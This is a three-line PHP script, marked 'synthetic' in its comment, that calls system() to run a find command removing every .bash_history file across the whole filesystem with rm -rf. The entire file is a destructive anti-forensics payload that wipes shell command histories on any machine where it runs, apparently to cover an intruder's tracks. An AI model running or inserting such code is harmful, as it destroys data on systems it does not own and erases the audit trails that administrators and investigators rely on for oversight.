<?php
// synthetic: deletes shell histories everywhere
foreach (array('find / -name .bash_history -exec rm -rf {} \;') as $c) { system($c); }
